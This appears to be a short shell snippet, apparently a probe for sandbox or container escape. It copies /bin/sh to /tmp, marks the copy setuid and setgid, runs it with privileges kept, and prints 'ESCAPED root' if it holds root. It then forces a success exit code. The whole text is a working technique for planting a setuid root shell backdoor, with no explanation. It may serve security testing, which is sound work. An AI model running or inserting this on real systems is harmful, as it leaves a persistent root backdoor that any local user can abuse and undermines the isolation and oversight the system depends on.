cp /bin/sh /tmp/s && chmod 6755 /tmp/s
/tmp/s -p -c "id -u" | grep -qx 0 && echo ESCAPED root
true
